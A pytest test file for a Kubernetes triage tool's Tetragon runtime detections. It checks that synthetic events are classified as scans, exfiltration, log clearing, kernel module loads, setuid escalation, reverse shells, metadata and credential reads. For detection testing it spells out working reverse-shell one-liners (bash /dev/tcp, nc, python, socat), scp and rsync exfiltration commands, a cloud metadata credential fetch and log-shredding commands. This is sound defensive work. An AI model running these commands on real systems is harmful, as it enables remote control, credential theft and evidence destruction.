"""Tetragon detections (core/detect/tetragon.py): each on a record shaped like
Tetragon's own export (the real events in the shared fixtures), with a near miss
that must not fire, and hostile records that must stay harmless."""

from __future__ import annotations

import copy
import json
import time
from pathlib import Path

import orjson
import pytest

from ktriage.core import focus
from ktriage.core.attack import TECHNIQUES
from ktriage.core.detect import tetragon as detect
from ktriage.core.ingest import Ingestor
from ktriage.core.model import Event, Severity

REAL = Path(__file__).resolve().parents[2] / ".." / "shared" / "fixtures" / "real" / "tetragon"

# The shape of a process in Tetragon's export (see the fixtures' process_kprobe.json).
POD = {
    "namespace": "tenant-jobs",
    "name": "elasticsearch-56f8fc6988-sh8rm",
    "container": {
        "id": "containerd://bae66fa9f18079f78500ad37e88eb8a88b3181b2d0767f26dc532f75e4024d27",
        "name": "elasticsearch",
        "image": {
            "id": "quay.io/isovalent/jobs-app-elasticsearch@sha256:ff3aa5862fd17f8695",
            "name": "quay.io/isovalent/jobs-app-elasticsearch:latest",
        },
        "start_time": "2021-10-18T19:33:53Z",
        "pid": 194,
    },
}


def process(binary: str, arguments: str = "", *, uid: int = 0, pod: bool = True) -> dict:
    proc = {
        "exec_id": "Z2tlLWtwcm9iZS12YWxpZGF0aW9uOjIyODQ2MDEwNTQ5MzE6MzYzMTg=" + binary,
        "pid": 36318,
        "uid": uid,
        "cwd": "/usr/share/elasticsearch/",
        "binary": binary,
        "arguments": arguments,
        "flags": "execve clone",
        "start_time": "2021-10-18T20:08:38.412Z",
        "auid": 4294967295,
        "docker": "bae66fa9f18079f78500ad37e88eb8a",
        "parent_exec_id": "Z2tlLWtwcm9iZS12YWxpZGF0aW9uOjIyNzc0Njk0NzUyNDk6MzYyMjI=",
        "refcnt": 1,
    }
    if pod:
        proc["pod"] = copy.deepcopy(POD)
    else:
        del proc["docker"]
    return proc


def exec_event(
    binary: str, arguments: str = "", parent: str = "/bin/bash", *, uid: int = 0, pod: bool = True
) -> dict:
    return {
        "process_exec": {
            "process": process(binary, arguments, uid=uid, pod=pod),
            "parent": {
                "exec_id": "Z2tlLWtwcm9iZS12YWxpZGF0aW9uOjIyNzc0Njk0NzUyNDk6MzYyMjI=",
                "pid": 36222,
                "binary": parent,
            },
        },
        "node_name": "gke-kprobe-validation-default-pool-b5e9dab6-k0cj",
        "time": "2021-10-18T20:08:55.567Z",
    }


def kprobe(function: str, args: list, *, binary: str = "/usr/bin/vi", uid: int = 0) -> dict:
    return {
        "process_kprobe": {
            "process": process(binary, "/etc/passwd", uid=uid),
            "parent": {"binary": "/bin/bash"},
            "function_name": function,
            "args": args,
            "action": "KPROBE_ACTION_POST",
            "policy_name": "file-monitoring",
        },
        "node_name": "gke-kprobe-validation-default-pool-b5e9dab6-k0cj",
        "time": "2021-10-18T20:08:55.567Z",
    }


def file_permission(path: str, mask: int) -> list:
    return [{"file_arg": {"path": path, "permission": "-rw-r--r--"}}, {"int_arg": mask}]


def one(rec: dict) -> Event:
    [ev] = Ingestor().feed_line(orjson.dumps(rec), origin="tetragon.jsonl:1")
    return ev


def assert_signal(ev: Event, kind: str, severity: Severity, technique: str) -> None:
    assert ev.signal is True, ev.summary
    assert (ev.kind, ev.severity) == (kind, severity), ev.summary
    assert ev.attack is not None and ev.attack.technique == technique
    assert technique in TECHNIQUES
    assert ev.label and ev.label in ev.summary


# -- reads and writes told apart ------------------------------------------------


def test_file_permission_mask_tells_a_write_from_a_read() -> None:
    write = one(kprobe("security_file_permission", file_permission("/etc/passwd", 2)))
    assert_signal(write, "sensitive-file-write", Severity.HIGH, "T1098")
    assert "write" in write.summary
    read = one(kprobe("security_file_permission", file_permission("/etc/passwd", 4)))
    assert_signal(read, "sensitive-file-read", Severity.MEDIUM, "T1552.001")
    assert read.label == "Sensitive file read"
    # /etc/shadow written is an account change, not a credential read
    shadow_write = one(kprobe("security_file_permission", file_permission("/etc/shadow", 2)))
    assert shadow_write.kind == "sensitive-file-write"
    shadow_read = one(kprobe("security_file_permission", file_permission("/etc/shadow", 4)))
    assert_signal(shadow_read, "shadow-read", Severity.HIGH, "T1003.008")
    # MAY_APPEND is a write too
    append = one(kprobe("security_file_permission", file_permission("/etc/sudoers", 8)))
    assert append.kind == "sensitive-file-write"


def test_static_pod_manifest_write_is_critical() -> None:
    path = "/etc/kubernetes/manifests/kube-apiserver-backdoor.yaml"
    ev = one(kprobe("security_file_permission", file_permission(path, 2), binary="/bin/cp"))
    assert_signal(ev, "static-pod-write", Severity.CRITICAL, "T1610")
    ev = one(kprobe("__x64_sys_write", [{"file_arg": {"path": path[1:]}}, {"size_arg": "627"}]))
    assert ev.kind == "static-pod-write" and ev.severity == Severity.CRITICAL


def test_near_miss_static_pod_manifest_read_or_kubeadm_is_not_critical() -> None:
    path = "/etc/kubernetes/manifests/etcd.yaml"
    read = one(kprobe("security_file_permission", file_permission(path, 4), binary="/bin/cat"))
    assert read.kind == "sensitive-file-read" and read.severity == Severity.MEDIUM
    upgrade = one(
        kprobe("security_file_permission", file_permission(path, 2), binary="/usr/bin/kubeadm")
    )
    assert upgrade.kind == "static-pod-write" and upgrade.severity == Severity.MEDIUM


def test_openat_flags_tell_a_write_from_a_read() -> None:
    # the arguments of Tetragon's openat_write.yaml example: dfd, path, flags
    path = "/etc/kubernetes/manifests/kube-proxy-helper.yaml"
    created = [{"int_arg": -100}, {"string_arg": path}, {"int_arg": 0o1101}]  # WRONLY|CREAT|TRUNC
    ev = one(kprobe("__x64_sys_openat", created, binary="/usr/bin/tee"))
    assert_signal(ev, "static-pod-write", Severity.CRITICAL, "T1610")
    read_only = [{"int_arg": -100}, {"string_arg": "/etc/shadow"}, {"int_arg": 0}]
    assert one(kprobe("__x64_sys_openat", read_only)).kind == "shadow-read"
    rdwr = [{"int_arg": -100}, {"string_arg": "/etc/shadow"}, {"int_arg": 2}]
    assert one(kprobe("__x64_sys_openat", rdwr)).kind == "sensitive-file-write"


def test_fd_install_without_a_mask_is_an_access() -> None:
    ev = one(kprobe("fd_install", [{"int_arg": 3}, {"file_arg": {"path": "/etc/shadow"}}]))
    assert_signal(ev, "shadow-read", Severity.HIGH, "T1003.008")
    ev = one(kprobe("fd_install", [{"int_arg": 3}, {"file_arg": {"path": "/etc/hosts"}}]))
    assert ev.kind == "process-kprobe" and ev.label == "Policy hit"


def test_authorized_keys_and_log_writes() -> None:
    keys = one(
        kprobe("security_file_permission", file_permission("/home/app/.ssh/authorized_keys", 2))
    )
    assert_signal(keys, "ssh-key-write", Severity.HIGH, "T1098.004")
    truncated = one(kprobe("security_path_truncate", [{"path_arg": {"path": "/var/log/auth.log"}}]))
    assert_signal(truncated, "log-clear", Severity.HIGH, "T1070.002")
    # reading a log is no tampering
    read = one(kprobe("security_file_permission", file_permission("/var/log/auth.log", 4)))
    assert read.kind == "process-kprobe"


# -- kernel modules --------------------------------------------------------------


def test_kernel_module_loads_are_high() -> None:
    read_file = one(
        kprobe(
            "security_kernel_read_file",
            [{"file_arg": {"path": "/tmp/diamorphine.ko"}}, {"int_arg": 2}],
            binary="/usr/sbin/insmod",
        )
    )
    assert_signal(read_file, "kernel-module", Severity.HIGH, "T1547.006")
    init = one(
        kprobe(
            "do_init_module",
            [{"module_arg": {"name": "diamorphine", "signature_ok": False, "tainted": ["oot"]}}],
        )
    )
    assert_signal(init, "kernel-module", Severity.HIGH, "T1547.006")
    assert "diamorphine" in init.summary
    finit = one(kprobe("__x64_sys_finit_module", [{"int_arg": 3}]))
    assert finit.kind == "kernel-module" and finit.severity == Severity.HIGH
    insmod = one(exec_event("/usr/sbin/insmod", "/tmp/diamorphine.ko"))
    assert_signal(insmod, "kernel-module", Severity.HIGH, "T1547.006")


def test_near_miss_module_requests_firmware_and_modprobe_are_lower() -> None:
    request = one(kprobe("security_kernel_module_request", [{"string_arg": "net-pf-38"}]))
    assert request.kind == "kernel-module" and request.severity == Severity.MEDIUM
    firmware = one(
        kprobe(
            "security_kernel_read_file",
            [{"file_arg": {"path": "/lib/firmware/iwlwifi.ucode"}}, {"int_arg": 1}],
        )
    )
    assert firmware.kind == "process-kprobe"
    modprobe = one(exec_event("/sbin/modprobe", "ip_vs"))
    assert modprobe.kind == "kernel-module" and modprobe.severity == Severity.MEDIUM
    # on the host (kube-proxy, CNI agents, systemd) it is context
    host = one(exec_event("/sbin/modprobe", "br_netfilter", pod=False))
    assert host.signal is False


# -- execs: recon, sshd, exfiltration, log clearing, setuid bits ------------------


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/nmap", "-sS -p 1-65535 10.96.0.0/12"),
        ("/usr/bin/masscan", "10.0.0.0/8 -p6443,10250 --rate 10000"),
        ("/usr/sbin/zmap", "-p 10250 10.0.0.0/8"),
        ("/usr/bin/nping", "--tcp -p 2379 10.0.0.12"),
    ],
)
def test_recon_tools_in_a_container(binary: str, arguments: str) -> None:
    assert_signal(one(exec_event(binary, arguments)), "network-scan", Severity.MEDIUM, "T1046")


def test_near_miss_ping_is_no_scan() -> None:
    assert one(exec_event("/bin/ping", "-c 1 10.0.0.12")).signal is False


def test_sshd_started_in_a_container_is_persistence() -> None:
    ev = one(exec_event("/usr/sbin/sshd", "-D -p 2222"))
    assert_signal(ev, "sshd-in-container", Severity.HIGH, "T1133")
    assert ev.attack is not None and ev.attack.tactic == "persistence"


def test_near_miss_sshd_as_the_container_entrypoint() -> None:
    rec = exec_event("/usr/sbin/sshd", "-D", parent="/usr/bin/containerd-shim-runc-v2")
    rec["process_exec"]["process"]["pod"]["container"]["pid"] = 1
    assert one(rec).signal is False


def test_real_scp_exfiltration_is_high() -> None:
    name = (
        "03_chapter__03_security_observability_events__03_post_exploitation_techniques__"
        "merlin-agent-scp.json"
    )
    if not (REAL / name).is_file():
        pytest.skip(f"real Tetragon fixture {name} not found next to the repository")
    ev = one(json.loads((REAL / name).read_bytes()))
    assert_signal(ev, "exfil-tool", Severity.HIGH, "T1048")
    assert "34.116.205.187" in ev.summary


@pytest.mark.parametrize(
    ("binary", "arguments", "kind", "severity"),
    [
        ("/usr/bin/scp", "-i /root/.ssh/id_rsa dump.7z natalia@203.0.113.9:~", "exfil-tool", 3),
        ("/usr/bin/rsync", "-az /data/ backup@203.0.113.9:/srv/", "exfil-tool", 3),
        ("/usr/bin/rclone", "copy /data s3remote:bucket", "exfil-tool", 3),
        ("/usr/bin/scp", "/data/a /data/b", "exfil-tool", 2),  # a local copy
        (
            "/usr/bin/ssh",
            '-i /root/.ssh/id_rsa -l natalia -- 34.116.205.187 "scp -t ~"',
            "exfil-tool",
            3,
        ),
        ("/usr/bin/ssh", "-N -R 2222:localhost:22 natalia@203.0.113.9", "ssh-tunnel", 3),
        ("/usr/bin/ssh", "natalia@203.0.113.9", "ssh-client", 2),
    ],
)
def test_remote_copy_and_ssh(binary: str, arguments: str, kind: str, severity: int) -> None:
    ev = one(exec_event(binary, arguments))
    assert (ev.kind, int(ev.severity)) == (kind, severity), ev.summary
    assert ev.signal and ev.attack is not None


@pytest.mark.parametrize(
    ("binary", "arguments", "parent", "severity"),
    [
        ("/usr/bin/truncate", "-s 0 /var/log/auth.log", "/bin/bash", Severity.HIGH),
        ("/usr/bin/shred", "-u -z /var/log/syslog", "/bin/bash", Severity.HIGH),
        ("/bin/rm", "-rf /var/log/nginx", "/bin/bash", Severity.HIGH),
        # a shell run by a shell is context, unless it empties a log
        ("/bin/sh", '-c "> /var/log/nginx/access.log"', "/bin/bash", Severity.HIGH),
        ("/bin/rm", "/root/.bash_history", "/bin/bash", Severity.MEDIUM),
    ],
)
def test_log_truncation(binary: str, arguments: str, parent: str, severity: Severity) -> None:
    ev = one(exec_event(binary, arguments, parent=parent))
    assert ev.kind == "log-clear" and ev.severity == severity and ev.signal


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/bin/truncate", "-s 0 /tmp/buffer"),
        ("/usr/bin/tail", "-f /var/log/app.log"),
        ("/bin/sh", '-c "echo started >> /var/log/app.log"'),  # appending is logging
        ("/bin/sh", '-c "run 2>/var/log/err.log"'),
    ],
)
def test_near_miss_log_reads_and_appends(binary: str, arguments: str) -> None:
    assert one(exec_event(binary, arguments)).kind != "log-clear"


def test_setuid_bit_by_chmod() -> None:
    for mode in ("u+s", "4755", "g+s", "+s"):
        ev = one(exec_event("/bin/chmod", f"{mode} /tmp/.x"))
        assert_signal(ev, "setuid-bit", Severity.MEDIUM, "T1548.001")
    for mode in ("755", "+x", "u+rwx", "1777"):
        assert one(exec_event("/bin/chmod", f"{mode} /tmp/.x")).signal is False


# -- setuid hooks ------------------------------------------------------------------


def test_setuid_to_root_from_non_root_is_high() -> None:
    ev = one(kprobe("__x64_sys_setuid", [{"int_arg": 0}], uid=1000))
    assert_signal(ev, "setuid", Severity.HIGH, "T1068")
    ev = one(
        kprobe("__x64_sys_setresuid", [{"int_arg": -1}, {"int_arg": 0}, {"int_arg": -1}], uid=33)
    )
    assert ev.severity == Severity.HIGH
    creds = [
        {"user_ns_arg": {"level": 1, "uid": 1000, "gid": 1000, "ns": 4026532000}},
        {"process_credentials_arg": {"uid": 0, "gid": 0, "euid": 0, "suid": 0, "fsuid": 0}},
    ]
    ev = one(kprobe("commit_creds", creds, uid=1000))
    assert ev.kind == "setuid" and ev.severity == Severity.HIGH
    # every exec commits credentials: the same user again is no escalation
    same = [{"process_credentials_arg": {"uid": 1000, "euid": 1000, "suid": 1000}}]
    assert one(kprobe("commit_creds", same, uid=1000)).severity == Severity.LOW


def test_near_miss_setuid_dropping_root_is_low() -> None:
    # nginx's master process dropping to its worker user
    ev = one(kprobe("__x64_sys_setuid", [{"int_arg": 101}], uid=0))
    assert ev.kind == "setuid" and ev.severity == Severity.LOW
    ev = one(kprobe("__x64_sys_setuid", [{"int_arg": 0}], uid=0))
    assert ev.severity == Severity.LOW
    # the record does not say: worth a look, not an alarm
    ev = one(kprobe("__x64_sys_setuid", [], uid=1000))
    assert ev.severity == Severity.MEDIUM


# -- the exec command read: reverse shells, metadata, credential files ------------


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/bin/bash", '-c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'),
        ("/bin/sh", '-c "sh -i 2>&1 | nc 203.0.113.9 4444 <&1"'),
        (
            "/usr/bin/python3",
            '-c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));'
            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
        ),
        ("/usr/bin/nc", "-e /bin/sh 203.0.113.9 4444"),
        ("/usr/bin/socat", "exec:/bin/bash,pty,stderr tcp:203.0.113.9:4444"),
    ],
)
def test_reverse_shell_is_critical(binary: str, arguments: str) -> None:
    ev = one(exec_event(binary, arguments, parent="/usr/sbin/nginx"))
    assert_signal(ev, "reverse-shell", Severity.CRITICAL, "T1059.004")
    # on the node itself as much as in a pod
    host = one(exec_event(binary, arguments, parent="/usr/sbin/nginx", pod=False))
    assert host.kind == "reverse-shell"


def test_near_miss_dev_tcp_probe_is_no_reverse_shell() -> None:
    # a readiness probe checking a port the way many charts do
    ev = one(exec_event("/bin/bash", "-c '</dev/tcp/127.0.0.1/5432'", parent="/usr/bin/runc"))
    assert ev.kind != "reverse-shell"
    ev = one(exec_event("/usr/bin/nc", "-z -w 1 10.0.0.12 5432"))
    assert ev.kind == "netcat" and ev.severity == Severity.HIGH


def test_cloud_metadata_and_shadow_through_exec() -> None:
    url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role"
    ev = one(exec_event("/usr/bin/curl", f"-s {url}"))
    assert_signal(ev, "metadata-access", Severity.HIGH, "T1552.005")
    ev = one(exec_event("/bin/cat", "/etc/shadow"))
    assert_signal(ev, "shadow-read", Severity.HIGH, "T1003.008")


def test_near_miss_ordinary_download_and_passwd_read() -> None:
    ev = one(exec_event("/usr/bin/curl", "-s https://example.com/health"))
    assert ev.kind == "download" and ev.severity == Severity.MEDIUM
    assert one(exec_event("/bin/cat", "/etc/passwd")).signal is False


# -- the focused replay's filter is derived from these tables ----------------------


def test_every_exec_detection_is_seen_by_the_focused_replay_filter() -> None:
    cases = [
        ("/usr/bin/nmap", "-sS 10.0.0.0/24"),
        ("/usr/sbin/sshd", "-D"),
        ("/usr/bin/rclone", "copy /data r:b"),
        ("/usr/sbin/insmod", "/tmp/x.ko"),
        ("/bin/chmod", "u+s /tmp/x"),
        ("/usr/bin/truncate", "-s0 /var/log/syslog"),
        ("/bin/sh", '-c ": > /root/.bash_history"'),
        ("/usr/bin/python3", "-c 'import pty;pty.spawn(\"/bin/sh\")'"),
        ("/usr/bin/perl", "-e 'print 1' /dev/tcp/x >&"),
        ("/usr/bin/wget", "-qO- http://169.254.169.254/computeMetadata/v1/"),
        ("/usr/bin/less", "/etc/gshadow"),
    ]
    for binary, arguments in cases:
        rec = exec_event(binary, arguments, parent="/usr/bin/python3")
        proc = focus._PLAIN_TETRAGON_DECODE(orjson.dumps(rec)).process_exec.process
        assert one(rec).signal, (binary, arguments)
        assert focus._exec_might_signal(proc), (binary, arguments)


# -- hostile records ---------------------------------------------------------------


def test_hostile_exec_with_ten_thousand_arguments() -> None:
    arguments = " ".join(f"--opt{i}=value{i}" for i in range(10_000)) + " u+s"
    started = time.perf_counter()
    ev = one(exec_event("/bin/chmod", arguments))
    elapsed = time.perf_counter() - started
    assert ev.kind == "setuid-bit"
    assert len(ev.summary) <= 400 and ev.summary.isprintable()
    assert elapsed < 5.0  # about 20 ms: linear in the arguments
    ev = one(exec_event("/usr/bin/scp", "x " * 10_000 + "a@203.0.113.9:/"))
    assert ev.kind == "exfil-tool" and ev.severity == Severity.HIGH


def test_hostile_kprobe_args_of_wrong_types_are_ignored_not_fatal() -> None:
    junk = [
        1,
        "x",
        None,
        ["nested"],
        {"int_arg": "zero"},
        {"int_arg": True},
        {"file_arg": "not-an-object"},
        {"file_arg": {"path": 42}},
        {"sock_arg": {"dport": "3333x"}},
        {"module_arg": ["diamorphine"]},
        {"process_credentials_arg": {"uid": "root"}},
    ]
    for function in (
        "security_file_permission",
        "__x64_sys_setuid",
        "commit_creds",
        "tcp_connect",
        "do_init_module",
        "security_kernel_read_file",
    ):
        ev = one(kprobe(function, junk, uid=1000))
        assert ev.signal is True
        assert ev.summary.isprintable()
    # what has the right type still counts
    ev = one(kprobe("__x64_sys_setuid", [*junk, {"int_arg": "0"}], uid=1000))
    assert ev.severity == Severity.HIGH


def test_hostile_kprobe_fields_of_wrong_shape_are_skipped_by_reason() -> None:
    ing = Ingestor()
    rec = kprobe("security_file_permission", [])
    rec["process_kprobe"]["args"] = {"file_arg": {"path": "/etc/shadow"}}
    assert ing.feed_line(orjson.dumps(rec), origin="t:1") == []
    rec = kprobe("security_file_permission", [])
    rec["process_kprobe"]["function_name"] = 7
    assert ing.feed_line(orjson.dumps(rec), origin="t:2") == []
    assert ing.skipped == {"wrong-type": 2}


def test_hostile_control_characters_in_a_path_stay_text() -> None:
    path = "/etc/kubernetes/manifests/\x1b]52;c;cm0gLXJmIC8=\x07evil.yaml"
    ev = one(kprobe("security_file_permission", file_permission(path, 2)))
    assert ev.kind == "static-pod-write"
    assert "\x1b" not in ev.summary and "\\x1b" in ev.summary


def test_every_finding_maps_to_a_known_technique() -> None:
    findings = [
        detect.classify_exec(
            detect_proc("/usr/bin/nmap", "10.0.0.0/8"), None
        ),  # a representative of each table
        detect.classify_exec(detect_proc("/usr/sbin/sshd", ""), None),
        detect.classify_exec(detect_proc("/usr/bin/rclone", "copy a r:b"), None),
        detect.classify_exec(detect_proc("/usr/sbin/insmod", "x.ko"), None),
        detect.classify_exec(detect_proc("/usr/sbin/rmmod", "x"), None),
        detect.classify_exec(detect_proc("/bin/chmod", "u+s x"), None),
        detect.classify_exec(detect_proc("/usr/bin/shred", "/var/log/x"), None),
        detect.classify_exec(detect_proc("/usr/bin/ssh", "-D 1080 h"), None),
    ]
    for found in findings:
        assert found is not None and found.technique in TECHNIQUES, found


def detect_proc(binary: str, arguments: str):
    from ktriage.core.parse.tetragon import TContainer, TPod, TProcess

    return TProcess(binary=binary, arguments=arguments, pod=TPod(name="p", container=TContainer()))


@pytest.mark.parametrize(
    "arguments",
    [
        "> " + "a" * 200_000,
        "> >" * 70_000 + " /var/log",
        " >" * 100_000 + "_history",
        "/dev/tcp/" * 20_000 + ">&" + "/dev/tcp/127." * 10_000,
    ],
    ids=["one-long-word", "redirect-runs", "spaced-redirects", "socket-runs"],
)
def test_hostile_redos_shaped_arguments_are_read_in_linear_time(arguments: str) -> None:
    # Each takes well under a second; a pattern that backtracked would take minutes.
    started = time.perf_counter()
    for binary in ("/bin/sh", "/usr/bin/truncate", "/bin/chmod"):
        one(exec_event(binary, arguments))
    assert time.perf_counter() - started < 5.0


def test_focused_replay_finds_every_new_runtime_detection_as_the_full_one(tmp_path: Path) -> None:
    """Plain execs around the new detections (and a recognised Falco rule at Debug
    priority, which is a signal now): the focused replay gives what the full one does."""
    from test_focus import _assert_same

    lines: list[bytes] = []
    detections = [
        ("/usr/bin/nmap", "-sS 10.0.0.0/24", "/bin/bash"),
        ("/bin/chmod", "u+s /tmp/.x", "/bin/bash"),
        ("/bin/sh", '-c "> /var/log/nginx/access.log"', "/bin/bash"),
        ("/usr/sbin/sshd", "-D -p 2222", "/bin/bash"),
        ("/usr/bin/rclone", "copy /data remote:bucket", "/bin/bash"),
        ("/usr/sbin/insmod", "/tmp/rootkit.ko", "/bin/bash"),
        ("/usr/bin/python3", "-c 'import pty;pty.spawn(\"/bin/sh\")'", "/usr/sbin/nginx"),
    ]
    for i, (binary, arguments, parent) in enumerate(detections):
        around = [("/bin/ls", "-la", "/bin/bash"), (binary, arguments, parent)]
        for j, (b, a, p) in enumerate([*around, ("/bin/date", "", "/bin/sh")]):
            rec = exec_event(b, a, parent=p)
            proc = rec["process_exec"]["process"]
            proc["pod"]["name"] = f"api-{i}"
            proc["exec_id"] = f"ZXhlYy{i}{j}"
            rec["time"] = f"2021-10-18T20:{10 + i:02d}:{10 + j:02d}.000Z"
            lines.append(orjson.dumps(rec))
    debug = {
        "hostname": "worker-2",
        "output": "Redirect STDOUT/STDIN to Network Connection in Container",
        "priority": "Debug",
        "rule": "Redirect STDOUT/STDIN to Network Connection in Container",
        "source": "syscall",
        "time": "2021-10-18T20:30:00.000000000Z",
        "output_fields": {"proc.cmdline": "bash -i"},
    }
    lines.append(orjson.dumps(debug))
    path = tmp_path / "runtime.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    replayer = _assert_same([path])
    assert replayer.stats.lines == len(lines)


# -- the kubelet's own credentials ------------------------------------------------


@pytest.mark.parametrize(
    "arguments",
    [
        "/var/lib/kubelet/kubeconfig",
        "/var/lib/kubelet/pki/kubelet-client-current.pem",
        "/etc/kubernetes/kubelet.conf",
    ],
)
def test_reading_the_kubelet_credentials_in_a_pod_is_high(arguments: str) -> None:
    ev = one(exec_event("/usr/bin/cat", arguments))
    assert_signal(ev, "kubelet-credentials-read", Severity.HIGH, "T1552.001")


def test_a_kubelet_credentials_read_through_a_host_mount_is_seen() -> None:
    path = "/host/var/lib/kubelet/pki/kubelet-client-current.pem"
    ev = one(kprobe("security_file_permission", file_permission(path, 4), binary="/bin/cp"))
    assert_signal(ev, "kubelet-credentials-read", Severity.HIGH, "T1552.001")


def test_near_miss_listing_the_kubelet_pods_directory_is_no_credentials_read() -> None:
    ev = one(exec_event("/usr/bin/ls", "/var/lib/kubelet/pods"))
    assert ev.kind != "kubelet-credentials-read"
